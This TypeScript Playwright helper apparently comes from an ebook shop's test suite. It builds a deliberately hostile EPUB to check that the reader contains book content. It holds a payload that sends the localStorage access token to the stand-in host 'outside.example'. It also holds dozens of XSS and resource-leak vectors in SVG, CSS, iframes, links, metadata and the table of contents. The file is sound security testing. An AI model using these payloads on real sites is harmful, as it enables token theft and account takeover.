/** A book that tries all that books have been known to try, each attempt under a name of its own. */
import { randomUUID } from 'node:crypto';
import { writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import { expect, type Page } from '@playwright/test';
import { ReadingPage } from '../pages/reading.page.ts';
import type { Shop } from './shop.ts';
import { createBook } from './create-book.ts';

/** Where whatever runs leaves its name: in its own window and in every window above it. */
export const EXECUTED_KEY = 'octavoRan';

/** Where the attacks lead. No name server knows it. */
export const EXTERNAL_ORIGIN = 'https://outside.example';

/** What a thief would look for. Whoever tries to read it must have run. */
export const TOKEN_KEY = 'access_token';

const PICTURE = Buffer.from('R0lGODlhAQABAIAAAAAAAP///yH5BAEAAAAALAAAAAABAAEAAAIBRAA7', 'base64');

/** An attempt after which the others of a chapter do not come to their turn, unless it is taken out. */
export type TerminalAttempt = 'refresh' | 'transform' | 'policy of its own';

/** Statements without a character that markup would have to escape. */
const payload = (name: string, more = ''): string =>
  `for (const w of [window, parent, top]) try { (w.${EXECUTED_KEY} = w.${EXECUTED_KEY} || []).push('${name}') } catch (e) {} try { new Image().src = '${EXTERNAL_ORIGIN}/token/' + localStorage.getItem('${TOKEN_KEY}') } catch (e) {} ${more}`;

/** The drawing, as a page of its own and inside of a chapter. */
export function hostileSvg(name = 'drawing'): string {
  const go = (what: string) => payload(`${name}: ${what}`);
  return `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="90" height="90" onload="${go('onload')}"><script>${go('script')}</script><a xlink:href="javascript:${go('link')}"><text y="9">s</text></a><image xlink:href="${EXTERNAL_ORIGIN}/svg.png"/><use href="${EXTERNAL_ORIGIN}/use.svg#a"/><style>text { fill: url(${EXTERNAL_ORIGIN}/fill.svg#a) }</style><foreignObject width="9" height="9"><iframe xmlns="http://www.w3.org/1999/xhtml" src="javascript:${go('frame')}"></iframe></foreignObject><set attributeName="onload" to="${go('set')}"/><animate attributeName="href" values="javascript:${go('animate')}" onbegin="${go('onbegin')}"/></svg>`;
}

/** A style sheet that asks outside for all that a style sheet can ask for. */
export const hostileStyles = (name = 'css'): string =>
  `@import "${EXTERNAL_ORIGIN}/${name}-import.css"; @import url(${EXTERNAL_ORIGIN}/${name}-import2.css); @font-face { font-family: ${name}; src: url(${EXTERNAL_ORIGIN}/${name}.woff2) } body { background: url("${EXTERNAL_ORIGIN}/${name}-body.png"); font-family: ${name} } p::before { content: url(${EXTERNAL_ORIGIN}/${name}-before.png) } i { background: image-set("${EXTERNAL_ORIGIN}/${name}-set.png" 1x); cursor: u\\72l(${EXTERNAL_ORIGIN}/${name}-escape.png), auto } p { behavior: url(x.htc) }`;

/** Each attempt of the chapter by its name: what stands in its head, and what in its body. */
function attempts(endings: readonly TerminalAttempt[]): { head: Record<string, string>; body: Record<string, string> } {
  const written: Readonly<Record<TerminalAttempt, string>> = {
    refresh: `<meta http-equiv="refresh" content="0;url=${EXTERNAL_ORIGIN}/refresh"/>`,
    // A style sheet for markup puts what it makes, or a page of errors, in the place of the chapter. It stands before the root.
    transform: '',
    'policy of its own': `<meta http-equiv="Content-Security-Policy" content="script-src *"/>`,
  };
  return {
    head: {
      base: `<base href="${EXTERNAL_ORIGIN}/"/>`,
      'style sheet from outside': `<link rel="stylesheet" href="${EXTERNAL_ORIGIN}/link.css"/>`,
      'style sheet of the book': `<link rel="stylesheet" href="hostile.css"/>`,
      'inline style sheet': `<style>${hostileStyles('inline')}</style>`,
      prefetch: `<link rel="prefetch" href="${EXTERNAL_ORIGIN}/prefetch"/><link rel="dns-prefetch" href="${EXTERNAL_ORIGIN}"/>`,
      preconnect: `<link rel="preconnect" href="${EXTERNAL_ORIGIN}"/>`,
      'module preload': `<link rel="modulepreload" href="${EXTERNAL_ORIGIN}/module.js"/>`,
      icon: `<link rel="icon" href="${EXTERNAL_ORIGIN}/icon.png"/>`,
      'inline script': `<script>${payload('inline script')}</script>`,
      'script of the book': `<script src="run.js"></script>`,
      'script from outside': `<script src="${EXTERNAL_ORIGIN}/run.js"></script>`,
      'window.open': `<script>${payload('window.open', `open('${EXTERNAL_ORIGIN}/window');`)}</script>`,
      'top navigation': `<script>${payload('top navigation', `try { top.location = '${EXTERNAL_ORIGIN}/top' } catch (e) {}`)}</script>`,
      'service worker': `<script>${payload('service worker', `try { navigator.serviceWorker.register('run.js') } catch (e) {}`)}</script>`,
      fetching: `<script>${payload('fetching', `fetch('${EXTERNAL_ORIGIN}/fetch'); navigator.sendBeacon('${EXTERNAL_ORIGIN}/beacon');`)}</script>`,
      'message to the page': `<script>${payload('message', `parent.postMessage({ type: 'octavo' }, '*');`)}</script>`,
      ...Object.fromEntries(endings.map((ending) => [ending, written[ending]])),
    },
    body: {
      'broken picture': `<img src="missing.png" onerror="${payload('onerror')}" alt=""/>`,
      'picture from outside': `<img src="${EXTERNAL_ORIGIN}/img.png" srcset="${EXTERNAL_ORIGIN}/srcset.png 2x" alt=""/>`,
      'style attribute': `<p style="background:url(${EXTERNAL_ORIGIN}/style.png)">styled</p>`,
      handlers: `<p onclick="${payload('onclick')}" onmouseover="${payload('onmouseover')}" onpointerdown="${payload('onpointerdown')}">handled</p>`,
      'script link': `<p><a href="javascript:${payload('script link')}">a link</a></p>`,
      'script link in disguise': `<p><a href=" java&#x9;script:${payload('disguised link')}">another</a></p>`,
      'data link': `<p><a href="data:text/html,&lt;script&gt;${payload('data link')}&lt;/script&gt;">a third</a></p>`,
      'link to the top': `<p><a href="vbscript:x" target="_top">a fourth</a></p>`,
      'link out of the book': `<p><a href="/../../api" ping="${EXTERNAL_ORIGIN}/ping">a fifth</a></p>`,
      'script frame': `<iframe src="javascript:${payload('script frame')}"></iframe>`,
      'written frame': `<iframe srcdoc="&lt;script&gt;${payload('written frame')}&lt;/script&gt;"></iframe>`,
      'frame from outside': `<iframe src="${EXTERNAL_ORIGIN}/frame"></iframe>`,
      'drawing as object': `<object data="hostile.svg" type="image/svg+xml"></object>`,
      'page as object': `<object data="data:text/html,&lt;script&gt;${payload('page as object')}&lt;/script&gt;"></object>`,
      embed: `<embed src="${EXTERNAL_ORIGIN}/embed"/>`,
      form: `<form action="${EXTERNAL_ORIGIN}/form" method="get"><input name="q" autofocus="" onfocus="${payload('onfocus')}"/><button>Send</button></form>`,
      'button with an address': `<form><button formaction="javascript:${payload('formaction')}">Send</button></form>`,
      video: `<video src="${EXTERNAL_ORIGIN}/video.mp4" poster="${EXTERNAL_ORIGIN}/poster.png" autoplay=""></video>`,
      sound: `<audio src="${EXTERNAL_ORIGIN}/audio.mp3" autoplay=""></audio>`,
      'opened details': `<details open="" ontoggle="${payload('ontoggle')}"><summary>more</summary>less</details>`,
      'linked formula': `<math xmlns="http://www.w3.org/1998/Math/MathML"><maction actiontype="statusline" xlink:href="javascript:${payload('maction')}" xmlns:xlink="http://www.w3.org/1999/xlink"><mi href="javascript:${payload('formula')}">x</mi></maction></math>`,
      'drawing in the text': hostileSvg('inner drawing'),
      'script in a switch': `<epub:switch><epub:default><script>${payload('switch')}</script></epub:default></epub:switch>`,
    },
  };
}

/** A chapter that makes every attempt, as its maker wrote it. */
export function hostileChapter(endings: readonly TerminalAttempt[] = []): string {
  const { head, body } = attempts(endings);
  const transform = endings.includes('transform') ? '<?xml-stylesheet type="text/xsl" href="run.xsl"?>' : '';
  return `<?xml version="1.0" encoding="UTF-8"?>
<?xml-stylesheet type="text/css" href="${EXTERNAL_ORIGIN}/pi.css"?>${transform}
<html xmlns="http://www.w3.org/1999/xhtml" xmlns:epub="http://www.idpf.org/2007/ops" onload="${payload('onload')}">
<head><title>One</title>${Object.values(head).join('\n')}</head>
<body onload="${payload('body onload')}" onpageshow="${payload('onpageshow')}" background="${EXTERNAL_ORIGIN}/background.png">
<h1>The hostile chapter</h1>
<p id="first">It was read in peace.</p>
${Object.values(body).join('\n')}
<p id="last">Nothing happened.</p>
</body></html>`;
}

/** The book as its maker wrote it tries everything. */
const TERMINAL_ATTEMPTS: readonly TerminalAttempt[] = ['refresh', 'transform', 'policy of its own'];

/** How many ways the chapter of the book tries, besides what the book's own metadata and contents do. */
export function countAttempts(): number {
  const { head, body } = attempts(TERMINAL_ATTEMPTS);
  return Object.keys(head).length + Object.keys(body).length;
}

/** Brings a book like that into the shop, one that nobody has read in before, and gives its slug and what was said of it. */
export async function importHostileBook(shop: Shop): Promise<{ slug: string; output: string }> {
  const name = `Mallory ${randomUUID().slice(0, 8)}`;
  const bytes = await createBook(`Peace <img src=x onerror="${payload('title')}">`, {
    creators: [{ name: `<script>${payload('author')}</script>${name}` }],
    subjects: [`Fiction <img src=x onerror="${payload('subject')}">`],
    description: `<p>Calm.</p><script>${payload('description')}</script><img src="${EXTERNAL_ORIGIN}/description.png" onerror="${payload('description picture')}"><a href="javascript:${payload('description link')}">link</a><form action="${EXTERNAL_ORIGIN}"><button>b</button></form><base href="${EXTERNAL_ORIGIN}/">`,
    documents: [
      { href: 'one.xhtml', content: hostileChapter(TERMINAL_ATTEMPTS) },
      { href: 'two.svg', mediaType: 'image/svg+xml', content: hostileSvg() },
    ],
    resources: [
      { href: 'cover.gif', mediaType: 'image/gif', content: PICTURE, isCover: true },
      { href: 'run.js', mediaType: 'text/javascript', content: payload('script of the book') },
      { href: 'run.xsl', mediaType: 'application/xslt+xml', content: '<x/>' },
      { href: 'hostile.svg', mediaType: 'image/svg+xml', content: hostileSvg('object') },
      { href: 'hostile.css', mediaType: 'text/css', content: hostileStyles() },
    ],
    toc: [
      { title: `One <img src=x onerror="${payload('contents')}">`, href: 'one.xhtml' },
      { title: 'Script', href: `javascript:${payload('line of the contents')}` },
    ],
  });
  const file = join(shop.dataDir, `${name}.epub`);
  await writeFile(file, bytes);
  const { output, code } = await shop.catalogCli('import', file);
  expect(code, output).toBe(0);
  const query = encodeURIComponent(name.toLowerCase());
  const found: unknown = await (await fetch(`${shop.origin}/api/v1/products?search=${query}`)).json();
  expect(found).toEqual([expect.objectContaining({ slug: expect.any(String) })]);
  const [{ slug }] = found as [{ slug: string }];
  return { slug, output };
}

/** Looks at the contents, whose second line would run a script, and presses that line. */
export async function clickHostileTocEntry(page: Page): Promise<void> {
  const { frame } = new ReadingPage(page);
  await page.keyboard.press('c');
  const contents = frame.getByRole('dialog', { name: 'Contents' });
  await expect(contents.getByText(/^One <img src=x/)).toBeVisible();
  const line = contents.getByText('Script', { exact: true });
  await expect(line).toBeVisible();
  expect(await contents.locator('a, [href], [src], [onclick]').count()).toBe(0);
  await line.click({ force: true });
  await page.keyboard.press('Escape');
  await expect(contents).toBeHidden();
}
